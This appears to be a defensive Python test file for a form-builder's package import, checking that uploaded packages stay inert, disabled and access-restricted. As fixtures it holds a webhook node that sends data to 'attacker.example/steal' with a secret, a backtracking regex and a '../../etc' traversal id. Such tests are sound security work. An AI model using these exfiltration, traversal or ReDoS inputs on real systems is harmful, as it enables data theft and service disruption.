"""What strangers made does nothing by itself: not when uploaded, and little when confirmed."""

import json
from dataclasses import replace

import pytest
from sqlalchemy import func, select

from formloom.builders.gallery import exchange
from formloom.builders.gallery.errors import AlreadyInstalled, PackageHasFaults, PackageUnknown
from formloom.platform.access.policy import Access, Act
from formloom.platform.kernel.errors import Forbidden
from formloom.platform.kernel.ids import new_id
from formloom.platform.storage import definition_store as store
from formloom.platform.storage import tables

from .hostile import MANIFEST, honest, zipped

TITLE = {"zh-CN": "标题", "en": "Title"}
FORM = {"title": TITLE, "fields": [{"id": "name", "type": "text", "label": TITLE}]}
CALL = {"id": "call", "type": "call_webhook", "url": "https://attacker.example/steal", "secret": "s3cret"}
FLOW = {"title": TITLE, "form": "guest", "enabled": True, "trigger": {"type": "record_created"}, "nodes": [CALL]}
NOTE = {**FLOW, "nodes": [{"id": "note", "type": "add_comment", "text": TITLE}]}
GROUP = {
    "title": TITLE, "members": {"users": [], "departments": [], "roles": ["guest_role"]},
    "grants": [{"form": "guest", "acts": ["record.read"], "rows": "all"}], "app_acts": ["design"],
}  # fmt: skip


def package(**more: object):
    parts = {
        "manifest.json": {
            **MANIFEST, "public_links": ["guest"], "roles": [{"key": "guest_role", "title": TITLE}],
            "leading_role": "guest_role",
        },
        "definitions/form/guest.json": FORM, "definitions/flow/steal.json": FLOW,
        "definitions/flow/note.json": NOTE, "definitions/permission_group/everybody.json": GROUP, **more,
    }  # fmt: skip
    return exchange.read_upload(zipped(honest(**parts)))


def keep(house, found):
    return house.db.write(lambda uow: exchange.keep(uow, house.admin, found, now=house.now))[0]


def confirm(house, package_id: str):
    return house.db.write(
        lambda uow: exchange.confirm(
            uow, house.admin, package_id, now=house.now, catalog=house.catalog, sample_data=False
        )
    )


def count(house, table) -> int:
    with house.db.read() as unit:
        return int(unit.conn.scalar(select(func.count()).select_from(table)) or 0)


def test_an_upload_changes_nothing(house) -> None:
    before = [count(house, table) for table in (tables.apps, tables.definitions, tables.roles)]
    keep(house, package())
    assert [count(house, table) for table in (tables.apps, tables.definitions, tables.roles)] == before


def test_confirmed_rules_are_off_and_calls_have_no_address(house) -> None:
    done = confirm(house, keep(house, package()))
    with house.db.read() as unit:
        flows = {one.key: one for one in store.listing(unit, app_id=done.app_id, kind="flow", with_draft=True)}
    assert flows["note"].version == 1
    assert flows["note"].draft["enabled"] is False
    assert flows["steal"].version is None
    told = json.dumps(flows["steal"].draft)
    assert "attacker" not in told
    assert "s3cret" not in told


def test_no_public_link_is_opened(house) -> None:
    confirm(house, keep(house, package()))
    assert count(house, tables.form_links) == 0


def test_nobody_but_the_one_who_imported_has_rights(house) -> None:
    done = confirm(house, keep(house, package()))
    other = house.member("other", "guest_role")
    with house.db.read() as unit:
        form = house.catalog.in_app(unit, done.app_id, "guest")
        assert not Access.of(unit, other).can(Act.FORM_OPEN, form=form)
        assert not Access.of(unit, other).can(Act.DEFINITION_EDIT, app=done.app_id)


def test_a_package_with_faults_is_not_installed(house) -> None:
    broken = package(**{"definitions/view/bad.json": {"title": TITLE, "form": "guest", "columns": [{"field": "nix"}]}})
    package_id = keep(house, broken)
    with pytest.raises(PackageHasFaults) as refused:
        confirm(house, package_id)
    assert "view/bad" in str(refused.value)
    assert count(house, tables.apps) == 0


def test_patterns_that_could_hang_are_found(house) -> None:
    slow = {**FORM, "fields": [{"id": "name", "type": "text", "label": TITLE, "pattern": "(?=a)(a+)+$"}]}
    with pytest.raises(PackageHasFaults):
        confirm(house, keep(house, package(**{"definitions/form/guest.json": slow})))


def test_a_package_is_confirmed_once(house) -> None:
    package_id = keep(house, package())
    confirm(house, package_id)
    with pytest.raises(PackageUnknown):
        confirm(house, package_id)
    with pytest.raises(AlreadyInstalled):
        keep(house, package())


def test_an_unknown_upload_is_told(house) -> None:
    for name in (new_id(), "../../etc", ""):
        with pytest.raises(PackageUnknown):
            confirm(house, name)


def test_only_administrators_upload(house) -> None:
    builder = replace(house.member("builder"), roles=frozenset({"builder"}))
    with pytest.raises(Forbidden):
        house.db.write(lambda uow: exchange.keep(uow, builder, package(), now=house.now))
